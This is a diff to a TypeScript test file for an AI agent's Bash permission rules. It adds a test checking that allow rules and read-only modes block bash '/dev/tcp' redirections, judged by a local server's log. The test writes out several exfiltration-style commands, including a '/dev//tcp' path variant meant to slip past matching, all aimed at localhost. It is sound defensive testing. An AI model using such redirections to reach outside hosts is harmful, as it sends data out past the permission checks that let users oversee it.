@@ -8,7 +8,8 @@
  * Judged by the effect: every command the real chain lets through (default
  * and bypassPermissions) is run for real with bash in a fixture repository
  * whose denied files are committed, and its output must hold no secret. The
- * controls show the oracle sees what is allowed.
+ * controls show the oracle sees what is allowed. Bash's `/dev/tcp` redirections
+ * are network clients: judged by a local server's connection log.
  */
 import * as NodeContext from "@effect/platform-node/NodeContext"
 import * as ShellCommand from "@switchyard/tools/ShellCommand"
@@ -18,6 +19,7 @@ import * as FastCheck from "effect/FastCheck"
 import * as Layer from "effect/Layer"
 import { spawnSync } from "node:child_process"
 import * as fs from "node:fs"
+import * as Net from "node:net"
 import * as os from "node:os"
 import * as path from "node:path"
 import { Bash, decide } from "./fixtures/permissionTools.js"
@@ -128,4 +130,46 @@ layer(TestLayer)("attack: Bash reads of denied paths, judged by what the command
         }))
     })
   }
+})
+
+layer(TestLayer)("attack: /dev/tcp redirections are network clients, judged by a local server's log", (it) => {
+  it.effect("narrow allow rules and the read-only set let no /dev/tcp line through; the server sees nothing", () =>
+    Effect.gen(function*() {
+      const seen: Array<string> = []
+      let received: () => void = () => {}
+      const firstData = new Promise<void>((resolve) => (received = resolve))
+      const server = Net.createServer((socket) => {
+        seen.push("connection")
+        socket.on("data", (data) => {
+          seen.push(data.toString("utf8"))
+          received()
+        })
+        socket.on("error", () => {})
+      })
+      yield* Effect.promise(() => new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve)))
+      const port = (server.address() as Net.AddressInfo).port
+      const commands = [
+        `printf 'GET /exfil HTTP/1.0\\r\\n\\r\\n' < /dev/tcp/127.0.0.1/${port} 1>&0`,
+        `echo exfil 0</dev/tcp/127.0.0.1/${port} >&0`,
+        `cat < /dev/tcp/127.0.0.1/${port}`,
+        `head -c0 < /dev//tcp/127.0.0.1/${port}`
+      ]
+      const allow = ["Bash(printf *)", "Bash(echo *)", "Bash(cat *)", "Bash(head *)"]
+      for (const mode of ["default", "acceptEdits", "plan"] as const) {
+        for (const command of commands) {
+          const { outcome } = yield* decide({ cwd: fixture, mode, allow }, Bash, { command })
+          if (outcome === "allow") run(`timeout 2 bash -c ${JSON.stringify(command)}`)
+          expect(outcome, `${mode}: ${command}`).not.toBe("allow")
+        }
+      }
+      // The blanket rule allows anything, and the log sees it: the oracle can see a request.
+      const { outcome } = yield* decide({ cwd: fixture, allow: ["Bash"] }, Bash, { command: commands[0]! })
+      expect(outcome).toBe("allow")
+      run(`timeout 2 bash -c ${JSON.stringify(commands[0]!)}`)
+      // Every earlier (denied) line was decided before this one ran: the first data is this request's.
+      yield* Effect.promise(() => firstData)
+      server.close()
+      expect(seen.filter((line) => line !== "connection").join("")).toContain("GET /exfil")
+      expect(seen.filter((line) => line.includes("GET")).length).toBe(1)
+    }))
 })
